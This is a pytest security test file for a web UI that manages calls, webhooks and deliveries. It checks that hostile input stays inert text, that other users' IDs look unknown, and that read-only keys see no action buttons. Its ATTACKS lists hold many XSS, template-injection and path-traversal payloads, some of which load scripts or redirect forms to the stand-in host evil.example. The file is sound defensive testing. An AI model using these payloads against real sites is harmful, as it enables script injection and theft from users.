"""What clients, upstreams and receivers write is text on every page: it makes no element, no attribute and no URL."""

import json
from collections.abc import Mapping
from typing import Any, Final
from urllib.parse import quote

import httpx
import pytest

from ringback.domain.call_outcome import CallOutcome, completion_from_result, failed_completion
from ringback.domain.principal import Scope
from tests.support.builders import make_attempt
from tests.support.fixed_upstreams import TOOLS
from tests.support.html_pages import ParsedPage
from tests.support.service import CALL_BODY, CALLBACK_URL, ServiceUnderTest
from tests.support.viewer_browser import ViewerBrowser, sign_in

ATTACKS: Final = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<script/src=data:,alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "` onmouseover=alert(1) `",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style>*{x:expression(alert(1))}</style></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<div style=background:url(//evil.example)>",
    "<div hx-get=//evil.example hx-trigger=load>",
    "<div hx-on:load=alert(1) hx-vals='js:{x:alert(1)}'>",
    "<template><script>alert(1)</script></template>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/path",
    "https://evil.example/<script>",
    "../../../../etc/passwd",
    "{{ 7 * 7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{{ self._TemplateReference__context }}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<" * 200,
    "a" * 256,
)
UNPRINTABLE: Final = (
    "\u202e<script>alert(1)</script>\u202c",
    "\u2066evil\u2069",
    "\ufeff<img src=x onerror=alert(1)>",
    "java\tscript:alert(1)",
    "a\x00<script>alert(1)</script>",
    "<img\nsrc=x\x0conerror=alert(1)>",
    "\u2028</script><script>alert(1)//",
    "<script>" * 1_000,
)
OUTPUT: Final = [*ATTACKS, *UNPRINTABLE]


def result_of(texts: list[str]) -> bytes:
    return json.dumps({"content": [{"type": "text", "text": text} for text in texts], "isError": True}).encode()


async def write_calls(service: ServiceUnderTest, client: httpx.AsyncClient) -> list[str]:
    """Calls whose labels, arguments, results, errors and progress are attacks. The paths of their pages."""
    paths: list[str] = []
    body: Mapping[str, Any] = CALL_BODY | {"arguments": {"repo_path": "x", **{each: each for each in OUTPUT}}}
    everything = (await client.post("/v1/calls", json=body)).json()["call"]["id"]
    await service.finish_call(everything, completion_from_result(result_of(OUTPUT), is_error=True))
    for attack in ATTACKS:
        labels = {"client_session_id": attack, "correlation_id": attack}
        started = await client.post("/v1/calls", json=CALL_BODY | labels)
        call_id = started.json()["call"]["id"]
        await service.finish_call(call_id, failed_completion(CallOutcome.UPSTREAM_ERROR, attack))
        paths += [f"/sessions/{quote(attack, safe='')}", f"/calls/{call_id}"]
    return [f"/calls/{everything}", *paths[::9]]


async def write_webhooks(service: ServiceUnderTest, client: httpx.AsyncClient) -> list[str]:
    """Webhooks with hostile descriptions, events, and attempts whose receivers answered with attacks."""
    paths: list[str] = []
    for attack in ATTACKS:
        registered = await client.post("/v1/webhooks", json={"url": CALLBACK_URL, "description": attack})
        if registered.is_success and len(paths) < 8:
            paths.append(f"/webhooks/{registered.json()['id']}")
    webhook = paths[0].removeprefix("/webhooks/")
    await client.post(f"/v1/webhooks/{webhook}/test")
    await client.post("/v1/events", json={"name": "order.paid", "data": {each: each for each in OUTPUT}})
    (delivery, *_) = await service.read_deliveries("alice")
    excerpts = [each.replace("\x00", "") for each in OUTPUT]  # the sender keeps printable text
    attempts = [make_attempt(delivery, number=number, excerpt=each) for number, each in enumerate(excerpts, 1)]
    await service.store.write(lambda tx: tx.delivery_queue.insert_attempts(attempts))
    return [*paths, f"/deliveries/{delivery.id}"]


async def open_all(browser: ViewerBrowser, paths: list[str]) -> dict[str, httpx.Response]:
    return {path: await browser.http.get(f"/ui{path}") for path in paths}


async def test_attack_strings_in_every_field_and_url_stay_text(
    service: ServiceUnderTest, monkeypatch: pytest.MonkeyPatch
) -> None:
    properties = {each: {"type": "string", "title": each, "description": each, "default": each} for each in OUTPUT[:40]}
    schema = {"type": "object", "title": "</script>", "properties": properties | {"e": {"enum": OUTPUT}}}
    tools = tuple({"name": f"tool_{n}", "description": each, "inputSchema": schema} for n, each in enumerate(OUTPUT))
    alice = await service.create_client("alice")
    paths = [*await write_calls(service, alice), *await write_webhooks(service, alice)]
    monkeypatch.setitem(TOOLS, "git", ({**TOOLS["git"][0]}, *tools))
    service.connections["git"].last_error = " ".join(ATTACKS)
    paths += ["", "/calls", "/webhooks", "/deliveries", "/events", "/upstreams", "/upstreams/git", "/audit"]
    paths += ["/upstreams/git/tools/tool_0", "/webhooks/new", "/sign-in"]
    for attack in ATTACKS[::8]:
        value = quote(attack, safe="")
        paths += [f"/lookup?q={value}", f"/calls?client_session_id={value}&tool={value}&status={value}", f"/{value}"]
        paths += [f"/events?name={value}&cursor={value}", f"/calls/{value}", f"/upstreams/{value}/tools/{value}"]
    browser = await sign_in(service, "alice")

    pages = await open_all(browser, paths)

    parsed = {path: ParsedPage(page.text) for path, page in pages.items()}
    assert {path: page.faults for path, page in parsed.items() if page.faults} == {}
    assert {path: page.status_code for path, page in pages.items() if page.status_code >= 500} == {}
    everything = "\n".join(page.text for page in parsed.values())
    assert [attack for attack in ATTACKS if attack not in everything] == []
    assert {page.headers["content-type"] for page in pages.values()} <= {"text/html; charset=utf-8"}


async def test_ids_of_another_principal_look_like_unknown_ones_on_every_page(service: ServiceUnderTest) -> None:
    bob = await service.create_client("bob")
    call = (await bob.post("/v1/calls", json=CALL_BODY)).json()["call"]["id"]
    webhook = (await bob.post("/v1/webhooks", json={"url": CALLBACK_URL})).json()["id"]
    await bob.post(f"/v1/webhooks/{webhook}/test")
    (delivery,) = await service.read_deliveries("bob")
    alice = await sign_in(service, "alice")
    pairs = [("/calls/{}", call), ("/webhooks/{}", webhook), ("/deliveries/{}", str(delivery.id))]
    pairs += [
        ("/webhooks/{}/rotate-secret", webhook),
        ("/webhooks/{}/remove", webhook),
    ]

    for path, foreign in pairs:
        unknown = foreign[:-4] + "0000"
        answers = [await alice.http.get("/ui" + path.format(each)) for each in (foreign, unknown)]

        assert [answer.status_code for answer in answers] == [404, 404], path
        assert answers[0].text.replace(foreign, unknown) == answers[1].text, path
    for path in (f"/calls/{call}/cancel", f"/webhooks/{webhook}/test", f"/deliveries/{delivery.id}/redeliver"):
        assert (await alice.send(path)).status_code == 404, path


async def test_a_key_that_only_reads_sees_no_buttons_and_its_forms_are_refused(service: ServiceUnderTest) -> None:
    alice = await service.create_client("alice")
    call = (await alice.post("/v1/calls", json=CALL_BODY)).json()["call"]["id"]
    webhook = (await alice.post("/v1/webhooks", json={"url": CALLBACK_URL})).json()["id"]
    await alice.post(f"/v1/webhooks/{webhook}/test")
    (delivery,) = await service.read_deliveries("alice")
    reader = await sign_in(service, "alice", scopes=frozenset({Scope.READ}))
    shown = ["", "/calls", f"/calls/{call}", "/webhooks", f"/webhooks/{webhook}", f"/deliveries/{delivery.id}"]
    shown += ["/deliveries", "/upstreams", "/upstreams/git", "/events", "/audit"]

    for path in shown:
        page = await reader.open(path)
        assert page.status_code == 200, path
        assert page.text.count('method="post"') == 1, f"{path}: only the button that signs out"
    actions = {
        f"/calls/{call}/cancel": "cancel",
        f"/webhooks/{webhook}/test": "",
        f"/webhooks/{webhook}/remove": "",
        f"/webhooks/{webhook}/rotate-secret": "",
        f"/deliveries/{delivery.id}/redeliver": "",
        "/upstreams/git/pause": "",
    }
    statuses = {path: (await reader.send(path)).status_code for path in actions}

    assert set(statuses.values()) == {403}, statuses
